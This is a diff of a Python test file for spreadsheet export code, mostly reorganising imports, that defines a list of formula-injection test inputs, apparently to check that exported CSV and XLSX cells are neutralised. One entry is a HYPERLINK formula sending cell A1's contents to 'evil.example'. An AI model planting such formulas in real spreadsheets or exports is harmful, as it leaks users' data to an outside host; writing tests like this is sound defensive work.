@@ -8,9 +8,11 @@ import pytest
 
 from catalogue.ingest import ingest
 from catalogue.sample import write_sample
-from reports.files import spreadsheet_text, write_csv, write_xlsx
+from ocop.spreadsheets import spreadsheet_text
+from reports.files import write_csv, write_xlsx
 from reports.tables import Column, Table
-from tests.catalogue.rows import good_row, write_csv as write_catalogue_csv
+from tests.catalogue.rows import good_row
+from tests.catalogue.rows import write_csv as write_catalogue_csv
 
 TODAY = dt.date(2026, 6, 1)
 FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"bấm vào")', "=1+2", "+1+2", "-2+3", "@SUM(A1:A2)",
